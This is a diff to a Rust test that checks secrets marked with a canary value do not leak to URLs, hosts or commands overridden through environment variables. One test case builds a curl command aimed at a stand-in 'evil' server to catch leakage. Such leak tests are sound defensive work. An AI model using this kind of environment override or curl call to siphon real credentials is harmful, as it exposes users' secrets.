@@ -52,6 +52,7 @@ fn url_in_environment_gets_no_secret_from_a_file() {
     let mapper = "kind = \"carbonmapper\"\nemail = \"a@b.example\"\npassword = { file = \"~/p\" }\n";
     let plugin =
         "kind = \"exec\"\ncommand = [\"true\"]\nsecrets = { a = { env = \"A\" }, b = \"KANARIE\" }\n";
+    let program = "kind = \"exec\"\nspeaks = \"text\"\ncommand = [\"echo\", \"KANARIE\"]\n";
     let command = format!("[\"curl\", \"{}\"]", evil.url());
     let cases = [
         (oauth2("client_credentials", secret), "TOKEN_URL", url("/t")),
@@ -75,6 +76,7 @@ fn url_in_environment_gets_no_secret_from_a_file() {
         (format!("kind = \"earthscope\"\n{secret}"), "API_URL", url("")),
         ("kind = \"static\"\ntoken = \"KANARIE\"\n".to_owned(), "HOSTS", "127.0.0.1".to_owned()),
         (plugin.to_owned(), "COMMAND", command),
+        (program.to_owned(), "HOSTS", "127.0.0.1".to_owned()),
         (plugin.to_owned(), "SETTINGS__TOKEN_URL", url("/t")),
         (plugin.to_owned(), "SETTINGS", format!("{{\"token_url\": \"{}\"}}", url("/t"))),
     ];
